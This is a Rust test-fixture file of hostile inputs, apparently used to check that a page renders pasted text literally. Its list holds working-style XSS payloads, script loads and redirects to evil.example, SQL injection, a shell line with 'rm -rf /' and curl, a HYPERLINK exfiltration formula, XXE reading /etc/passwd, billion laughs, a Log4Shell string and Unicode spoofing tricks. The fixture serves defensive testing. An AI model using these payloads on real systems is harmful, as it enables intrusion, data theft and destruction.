//! Plain text that wants to be more than text. Each is shown as the words that it is.

/// What it tries, and the text.
pub(super) const TEXTS: &[(&str, &str)] = &[
    // Markup.
    ("a script", "<script>canary('script')</script>"),
    ("a script of another host", "<script src=\"https://evil.example/a.js\"></script>"),
    ("an end of what it stands in", "</p></div></body></html><script>canary(1)</script>"),
    ("an end of a script", "</script><script>canary(1)</script>"),
    ("an end of a style", "</style><img src=x onerror=canary(1)>"),
    ("an end of a title", "</title><svg onload=canary(1)>"),
    ("an end of a text field", "</textarea><svg/onload=canary(1)>"),
    ("an end of a comment", "--><img src=x onerror=canary(1)><!--"),
    ("an end of character data", "]]><script>canary(1)</script><![CDATA["),
    ("an end of an attribute", "\"><img src=x onerror=canary(1)>"),
    ("an end of an attribute, single", "' onmouseover='canary(1)' x='"),
    ("an end of an attribute, none", "x onfocus=canary(1) autofocus tabindex=1"),
    ("a picture that fails", "<img src=x onerror=canary('img')>"),
    ("a picture, odd white space", "<img/src=x\u{c}onerror\n=\tcanary(1)//"),
    ("a drawing", "<svg onload=canary('svg')><script>canary(2)</script></svg>"),
    ("a frame", "<iframe srcdoc=\"<script>parent.canary('frame')</script>\"></iframe>"),
    ("a new base", "<base href=\"https://evil.example/\">"),
    ("a refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">"),
    ("half a tag", "<img src=x onerror=canary(1) "),
    ("entities of a tag", "&lt;script&gt;canary(1)&lt;/script&gt; &#60;svg onload=canary(1)&#62;"),
    ("tags in full width", "＜script＞canary(1)＜/script＞"),
    ("tags of UTF-7", "+ADw-script+AD4-canary(1)+ADw-/script+AD4-"),
    // Addresses.
    ("a script as an address", "See javascript:canary(1) for more."),
    ("a script as an address, masked", "See jAvA\tScRiPt:canary(1) and java&#10;script:canary(1)."),
    ("a page as an address", "See data:text/html,<script>canary(1)</script> for more."),
    ("a document as an address", "See blob:https://evil.example/1 and file:///etc/passwd and vbscript:canary(1)."),
    ("an address that goes on", "See https://evil.example/?a=<svg/onload=canary(1)> for more."),
    ("another scheme", "See glossator://open?script=canary(1) and tel:*#06# and mailto:a@b.example?bcc=c@d.example."),
    // Other languages.
    ("a template", "{{constructor.constructor('canary(1)')()}} ${canary(1)} <%= canary(1) %> #{canary(1)}"),
    ("a template's string", "`${canary(1)}`"),
    ("a style", "x{background:url(javascript:canary(1))}*{display:none}@import 'https://evil.example/a.css';"),
    ("an expression", "expression(canary(1)) -moz-binding:url(//evil.example)"),
    ("a query", "'; DROP TABLE articles; -- \" OR 1=1"),
    ("a command", "; rm -rf / | $(canary) `canary` && curl https://evil.example"),
    ("a formula", "=HYPERLINK(\"https://evil.example/?\"&A1,\"press\")"),
    ("entities of XML", "<!DOCTYPE x [<!ENTITY a \"canary\"><!ENTITY b SYSTEM \"file:///etc/passwd\">]><x>&a;&b;</x>"),
    (
        "a billion laughs",
        "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">\
         <!ENTITY d \"&c;&c;&c;&c;\">]><l>&d;</l>",
    ),
    ("a log's line", "%s%n%x ${jndi:ldap://evil.example/a} \\x1b]8;;https://evil.example\\x07"),
    // Names that programs stumble over.
    (
        "names of prototypes",
        "__proto__ said. constructor said. Prototype said. toString, the minister, said hasOwnProperty.",
    ),
    (
        "names of a prototype as a person",
        "Mr Constructor said that Mrs Prototype and Dr __proto__ met valueOf in Lima.",
    ),
    ("a path into a prototype", "__proto__[polluted]=1 constructor.prototype.polluted=1"),
    ("names of the page's elements", "crash-text article paste sidebar-body share-link unsupported update"),
    ("names of values", "null undefined NaN Infinity true false -0 1e999 [object Object]"),
    // Letters.
    (
        "overrides of direction",
        "The file \u{202e}gnp.exe\u{202c} of \u{2066}Rosa\u{2069} Lind \u{202d}said\u{202c} so.",
    ),
    ("overrides that never end", "\u{202e}\u{202e}\u{2067}\u{2068}\u{202b} Rosa Lind said so."),
    ("what takes no room", "Ro\u{200b}sa\u{200c} Li\u{200d}nd\u{2060} sa\u{feff}id\u{ad} so\u{180e}."),
    ("only what takes no room, and a letter", "\u{200b}\u{200c}\u{200d}\u{2060}a\u{200b}"),
    ("letters that look alike", "Rоsа Lind of раураӏ.example and ɢoogle.example said so."),
    ("letters of mathematics", "𝐑𝐨𝐬𝐚 𝕷𝖎𝖓𝖉 ℛ𝓸𝓼𝓪 said 𝟙𝟚𝟛 so."),
    ("tags of letters", "Rosa\u{e0001}\u{e0073}\u{e0063}\u{e0072} Lind said so\u{e007f}."),
    (
        "marks upon marks",
        "R\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}osa Z̷̡̢̛͙̖̬a̸lgo said so.",
    ),
    ("controls", "Rosa\u{0}\u{1}\u{7}\u{8}\u{1b}[2J\u{1b}]0;title\u{7}\u{7f}\u{9b} Lind said so."),
    ("no characters", "Rosa\u{ffff}\u{fffe}\u{fdd0}\u{10ffff} Lind\u{fffd}\u{e000} said so."),
    ("line ends of every kind", "Rosa\r\rLind\u{85}said\u{2028}so\u{2029}in\u{b}Lima\u{c}today."),
    ("flags without an end", "🇵🇪🇵🇪🇵 Rosa Lind 👩‍👩‍👧‍👦‍👦‍👦‍👦 said so ☠️‍."),
    ("the longest ligature", "﷽﷽﷽﷽﷽﷽﷽﷽ ꧅꧅ 𒐫𒐫𒈙 Rosa Lind said so."),
    ("letters that crashed phones", "جزيزة لُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ 冗 జ్ఞ‌ా Rosa Lind said so."),
    ("letters that grow", "ŉ ǰ ΐ ΰ ﬃ ſ K Å İ ẞ ß Rosa Lind said so."),
];

/// What is too long to send, made in the page, and the notice that stands in its way.
pub(super) const MADE: &[(&str, &str, &str)] = &[
    ("a million that takes no room", "'\\u200b'.repeat(1_000_000)", "too-large"),
    ("ten megabytes", "'Lima '.repeat(2_000_000)", "too-large"),
    ("ten megabytes of nothing", "' '.repeat(10_000_000)", "empty"),
    ("an address of ten megabytes", "'https://evil.example/' + 'a'.repeat(10_000_000)", "bare-url"),
];
